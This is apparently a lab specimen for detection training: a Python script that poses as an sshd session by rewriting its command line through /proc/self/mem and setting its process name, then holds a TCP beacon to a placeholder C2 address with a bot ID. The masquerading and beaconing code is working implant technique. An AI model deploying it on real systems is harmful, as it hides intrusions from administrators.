#!/usr/bin/python3
# kcsi lab specimen: a Python implant dressed as an sshd session. Rewrites its own command line
# (through /proc/self/mem, the way setproctitle does) to '@@TITLE@@', sets its comm to
# '@@COMM@@', then keeps a TCP connection to @@C2@@ (127.x) and sends a heartbeat line every
# 2 s; reconnects when dropped.
import ctypes, os, socket, time


def set_title(title, comm):
    f = open("/proc/self/stat").read().rsplit(")", 1)[1].split()
    start, end = int(f[45]), int(f[46])      # arg_start, arg_end (fields 48, 49)
    t = title.encode()[:end - start - 2] + b"\0"
    # the area no longer ends with NUL: the kernel shows the text up to the first NUL
    with open("/proc/self/mem", "r+b", buffering=0) as m:
        m.seek(start)
        m.write(t + b" " * (end - start - len(t)))
    ctypes.CDLL(None).prctl(15, comm.encode(), 0, 0, 0)


set_title("@@TITLE@@", "@@COMM@@")
host, port = "@@C2@@".rsplit(":", 1)
n = 0
while True:
    try:
        s = socket.create_connection((host, int(port)), timeout=10)
        while True:
            n += 1
            s.sendall(b"HB @@BOT_ID@@ %d %d\n" % (n, int(time.monotonic())))
            time.sleep(2)
    except OSError:
        time.sleep(3)
